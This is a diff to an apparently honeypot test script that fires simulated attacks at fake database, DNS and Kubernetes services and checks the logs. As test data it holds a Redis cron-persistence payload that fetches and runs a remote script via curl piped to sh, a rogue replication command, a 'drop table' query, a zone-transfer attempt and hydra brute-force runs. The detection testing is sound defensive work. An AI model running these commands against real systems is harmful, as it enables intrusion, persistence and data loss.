@@ -64,11 +64,16 @@ count_log() { # patterns... → number of lines matching all
 
 # --- mysql (mariadb client)
 mysql -h "$DB" -P "$(p 3306)" -u root -pwrongpw -e 'select 1' >"$WORK/mysql1.out" 2>&1 && fail "mysql wrong password accepted"
-grep -q "Access denied for user 'root'@'127.0.0.1' (using password: YES)" "$WORK/mysql1.out" || { cat "$WORK/mysql1.out"; fail "mysql access denied text"; }
+# Debian's MariaDB root@localhost is unix_socket: a password over TCP is 1698.
+grep -q "ERROR 1698 (28000): Access denied for user 'root'@'localhost'" "$WORK/mysql1.out" || { cat "$WORK/mysql1.out"; fail "mysql access denied text"; }
 expect_log "mysql native capture" 'db01 mysql - auth_attempt' 'username="root"' 'secret_kind="mysql_native_password"' 'hashcat="\$mysqlna\$[0-9a-f]{40}\*[0-9a-f]{40}"'
 mysql -h "$DB" -P "$(p 3306)" -u app -pDb-Pass-2024 -e 'show databases; select @@version_comment; drop table users' >"$WORK/mysql2.out" 2>&1 || { cat "$WORK/mysql2.out"; fail "mysql configured login"; }
 grep -q "information_schema" "$WORK/mysql2.out" || fail "mysql show databases"
 expect_log "mysql query logged" 'db01 mysql - command' 'command="drop table users"'
+# Unknown users are refused as MariaDB's hash-picked stand-in account
+# (accounts app, mariadb.sys, mysql, root): admin -> root, oracle -> mariadb.sys.
+mysql -h "$DB" -P "$(p 3306)" -u admin -px -e 'select 1' 2>&1 | grep -q "ERROR 1698 (28000): Access denied for user 'admin'@'localhost'$" || fail "mysql stand-in unix_socket refusal"
+mysql -h "$DB" -P "$(p 3306)" -u oracle -px -e 'select 1' 2>&1 | grep -q "ERROR 1045 (28000): Access denied for user 'oracle'@'localhost' (using password: YES)" || fail "mysql stand-in password refusal"
 
 # --- postgres (psql)
 PGPASSWORD=wrongpw PGCONNECT_TIMEOUT=5 psql "host=$DB port=$(p 5432) user=postgres dbname=crm sslmode=prefer" -c 'select 1' >"$WORK/psql1.out" 2>&1 && fail "psql wrong password accepted"
@@ -84,7 +89,8 @@ redis-cli -h "$DB" -p "$(p 6379)" --no-auth-warning -a wrongpw ping 2>&1 | grep 
 expect_log "redis AUTH capture" 'db01 redis - auth_attempt' 'password="wrongpw"' 'success="false"'
 RC="redis-cli -h $DB -p $(p 6379) --no-auth-warning -a Redis-Pass-2024"
 $RC info server | grep -q "redis_version:7.0.15" || fail "redis INFO"
-$RC config set dir /var/spool/cron/crontabs | grep -q OK || fail "redis CONFIG SET"
+# Redis 7 refuses the protected configs; the attempt is still recorded.
+$RC config set dir /var/spool/cron/crontabs | grep -q "can't set protected config" || fail "redis CONFIG SET"
 $RC config set dbfilename root >/dev/null
 $RC set x "* * * * * curl -s http://203.0.113.9/x.sh | sh" >/dev/null
 $RC slaveof 203.0.113.9 8886 | grep -q OK || fail "redis SLAVEOF"
@@ -120,8 +126,12 @@ grep -q "STRING: \"\?eth0" "$WORK/snmp1.out" || { cat "$WORK/snmp1.out"; fail "s
 dig +short +time=2 +tries=1 @"$INFRA" -p "$(p 53)" www.corp.local A | grep -qx "$INFRA" || fail "dig A"
 dig +short +time=2 +tries=1 @"$INFRA" -p "$(p 53)" version.bind CH TXT | grep -q "9.18" || fail "dig version.bind"
 dig +time=2 +tries=1 @"$INFRA" -p "$(p 53)" google.com A | grep -q "status: REFUSED" || fail "dig recursion refused"
+# Debian/Ubuntu's bind9 default zones: localhost and its reverse.
+dig +short +time=2 +tries=1 @"$INFRA" -p "$(p 53)" localhost A | grep -qx "127.0.0.1" || fail "dig localhost"
+dig +short +time=2 +tries=1 @"$INFRA" -p "$(p 53)" -x 127.0.0.1 | grep -qx "localhost." || fail "dig reverse localhost"
 dig +time=2 +tries=1 @"$INFRA" -p "$(p 53)" corp.local AXFR >"$WORK/axfr.out" 2>&1 || true
-grep -q "dc01.corp.local" "$WORK/axfr.out" || { cat "$WORK/axfr.out"; fail "dig axfr"; }
+# BIND refuses zone transfers by default; the attempt is recorded.
+grep -q "Transfer failed" "$WORK/axfr.out" || { cat "$WORK/axfr.out"; fail "dig axfr refused"; }
 expect_log "dns query" 'infra01 dns - request' 'query="www.corp.local"' 'qtype="A"'
 expect_log "dns zone transfer" 'infra01 dns - command' 'exploit="zone_transfer"'
 
@@ -154,7 +164,7 @@ curl -sk "https://$INFRA:$(p 6443)/version" | grep -q '"gitVersion":"v1.28.4"' |
 curl -sk -H 'Authorization: Bearer eyJstolen.token' "https://$INFRA:$(p 6443)/api/v1/pods" | grep -q PodList || fail "k8s pods"
 expect_log "k8s bearer token" 'infra01 k8s - auth_attempt' 'secret_kind="bearer_token"'
 
-# --- hydra: exactly one auth_attempt per try (4 wrong passwords each)
+# --- hydra: exactly one auth_attempt per login attempt (4 wrong passwords each)
 printf 'hydra-pw-1\nhydra-pw-2\nhydra-pw-3\nhydra-pw-4\n' >"$WORK/pw.txt"
 hydra_run() { # service, hydra args...
     local svc=$1; shift
@@ -164,10 +174,12 @@ hydra_run() { # service, hydra args...
     grep -q "1 of 1 target completed, 0 valid password" "$WORK/hydra-$svc.out" || { cat "$WORK/hydra-$svc.out"; fail "hydra $svc did not complete"; }
     sleep 0.5
     after=$(count_log "db01 $svc - auth_attempt")
-    [ $((after - before)) = 4 ] || { cat "$WORK/hydra-$svc.out"; fail "hydra $svc: expected 4 auth_attempt lines, got $((after - before))"; }
+    [ $((after - before)) = $((4 * ${PER_TRY:-1})) ] || { cat "$WORK/hydra-$svc.out"; fail "hydra $svc: expected $((4 * ${PER_TRY:-1})) auth_attempt lines, got $((after - before))"; }
 }
 PORT=3306 hydra_run mysql -l root
-PORT=5432 hydra_run postgres -l postgres
+# The Debian persona's cluster has ssl = on: libpq (sslmode=prefer) logs in
+# over TLS and, refused, tries again in plaintext, as against a real one.
+PER_TRY=2 PORT=5432 hydra_run postgres -l postgres
 PORT=6379 hydra_run redis
 [ "$(count_log 'db01 redis - auth_attempt' 'password="hydra-pw-[1-4]"')" = 4 ] || fail "redis hydra passwords not captured in clear"
 
